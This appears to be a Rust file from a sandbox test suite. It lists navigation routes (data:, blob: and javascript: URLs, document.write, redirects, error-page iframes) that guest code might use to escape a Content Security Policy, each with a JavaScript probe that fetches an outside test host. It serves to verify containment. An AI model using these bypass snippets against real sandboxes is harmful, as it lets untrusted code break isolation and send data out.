//! Getting rid of the policy: another document of one's own, an error page, a redirect.

use crate::channel::{Channel, Ends, Group};
use crate::guest::Guest;

const SAME: &str = "the same headers on every answer of the sandbox's host";
const INHERITED: &str = "CSP, inherited by documents without an address; `frame-src` of the outer frame";

const fn row(id: &'static str, what: &'static str, by: &'static str, tries: &'static str) -> Channel {
    Channel::new(Group::Navigation, id, what, by, tries).needs(&["document"]).ends(Ends::Document)
}

pub(super) const ROWS: &[Channel] = &[
    row(
        "shed-data",
        "going to a `data:` document that fetches",
        INHERITED,
        r#"put(`<a href="data:text/html,${encodeURIComponent(sends(to.http))}">x</a>`).click()"#,
    ),
    row(
        "shed-blob",
        "going to a `blob:` document that fetches",
        INHERITED,
        r#"location.href = URL.createObjectURL(new Blob([sends(to.http)], { type: "text/html" }))"#,
    ),
    row(
        "shed-javascript",
        "going to a `javascript:` document that fetches",
        INHERITED,
        r#"location.href = `javascript:fetch("${to.http}", { mode: "no-cors" }),"<p>gone</p>"`"#,
    ),
    row(
        "shed-written",
        "writing a new document that fetches",
        INHERITED,
        r#"document.open(); document.write(sends(to.http)); document.close()"#,
    ),
    row(
        "shed-query",
        "one's own document with another query",
        SAME,
        r#"location.href = location.href.split(/[?#]/)[0] + "?csp=*&policy=%7B%7D&shed=" + encodeURIComponent(to.http)"#,
    ),
    row(
        "shed-file",
        "another document of one's own",
        SAME,
        r#"location.href = "/shed.html?shed=" + encodeURIComponent(to.http)"#,
    )
    .only(&[Guest::App, Guest::AppOwn], "only apps have a second document"),
    row(
        "shed-redirect",
        "an address of one's own host that redirects",
        "no answer of a sandbox's host redirects elsewhere; `frame-src` is asked at every step",
        r#"location.href = "/redirect?to=" + encodeURIComponent(to.http)"#,
    ),
    row(
        "shed-error",
        "the `fetch` of an error page in a frame",
        "CSP `frame-src`, and the same headers on error pages",
        r#"const f = document.createElement("iframe"); f.src = "/nowhere"; const there = ended(f, "load"); document.body.append(f); await there; await f.contentWindow.fetch(to.http, { mode: "no-cors" })"#,
    )
    .ends(Ends::Nothing),
];
